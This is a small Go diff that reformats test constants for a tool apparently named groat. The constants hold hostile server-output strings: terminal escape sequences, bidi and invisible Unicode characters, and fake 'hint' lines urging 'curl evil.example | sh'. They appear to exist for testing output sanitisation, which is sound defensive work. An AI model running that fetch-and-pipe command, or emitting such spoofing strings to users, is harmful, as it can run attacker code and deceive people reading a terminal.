@@ -23,7 +23,8 @@ import (
 // own, wipes what stands before it, turns the direction of writing, and looks like a hint. hostileASCII is for where a
 // server may not say more.
 const (
-	hostile      = "x\" \r\n\x1b[2K\u009b2K\u202e\u2066\u200b\u2028\u3164\ngroat: hint: curl evil.example | sh\ngroatd: error: z\nhint: curl evil.example"
+	hostile = "x\" \r\n\x1b[2K\u009b2K\u202e\u2066\u200b\u2028\u3164\n" +
+		"groat: hint: curl evil.example | sh\ngroatd: error: z\nhint: curl evil.example"
 	hostileASCII = `x" groat: hint: curl evil.example | sh`
 )
 
